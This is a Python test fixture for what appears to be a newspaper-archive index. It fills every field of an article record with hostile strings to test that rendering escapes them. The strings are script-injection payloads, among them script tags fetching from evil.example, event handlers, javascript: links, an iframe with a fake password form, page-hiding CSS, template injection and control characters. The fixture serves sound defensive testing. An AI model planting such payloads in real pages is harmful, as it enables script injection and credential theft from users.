"""A newspaper page that tries to take over the page it is shown on, in every field."""

from __future__ import annotations

from index.schema import ArticleRecord, Paragraph

PAYLOADS = (
    "<script>window.__struck=1;fetch('http://evil.example/a')</script>",
    "<img src=x onerror=\"window.__struck=2\"><img src='http://evil.example/pixel.png'>",
    '"><svg/onload=window.__struck=3>',
    '<a href="javascript:window.__struck=4">读全文</a> [点我](javascript:window.__struck=5) <http://evil.example/>',
    "![p](http://evil.example/p.png) **粗** `code` # 题 http://evil.example/x www.evil.example",
    "$$\\href{javascript:window.__struck=6}{x}$$ \\(x\\) ```mermaid\ngraph TD; A-->B\n```",
    "<iframe src='http://evil.example/'></iframe><form action='http://evil.example/'><input name=password type=password></form>",
    "<style>body{display:none}</style><div style='position:fixed;inset:0;z-index:9999'>盖住</div>",
    "</div></blockquote></article>\n\n<h1>破框</h1>\n\n- 列表",
    "{{constructor.constructor('window.__struck=7')()}} ${window.__struck=8} &lt;b&gt; &#60;b&#62;",
    "\u202e倒着写\u202c\u2066\u200b\x00\x1b[31m\ud800零宽",
    "长" * 10_000,
    "W" * 10_000,
)

WORD = "炼钢工人李铁柱获奖"


def hostile_article() -> ArticleRecord:
    """Return an article with a payload in every field and one true sentence to be found by ``WORD``."""
    paragraphs = tuple(
        Paragraph(number, f"{WORD}第{number}回。{payload}", (number,), subhead=payload[:200], flags=("已拼接", payload[:80]))
        for number, payload in enumerate(PAYLOADS, 1)
    )
    return ArticleRecord(
        id='bad"><b>1&x=<i>',
        issue_id="bad",
        source=PAYLOADS[0],
        ordinal=1,
        newspaper=PAYLOADS[1],
        date=PAYLOADS[2],
        issue_number=7,
        page=PAYLOADS[3],
        weekday=PAYLOADS[4],
        headline=" ".join(payload[:300] for payload in PAYLOADS),
        kicker=PAYLOADS[5],
        subtitle=PAYLOADS[6],
        subheads=PAYLOADS[:3],
        authors=PAYLOADS[:4],
        captions=PAYLOADS,
        jump=PAYLOADS[8],
        flags=(PAYLOADS[7],),
        paragraphs=paragraphs,
    )
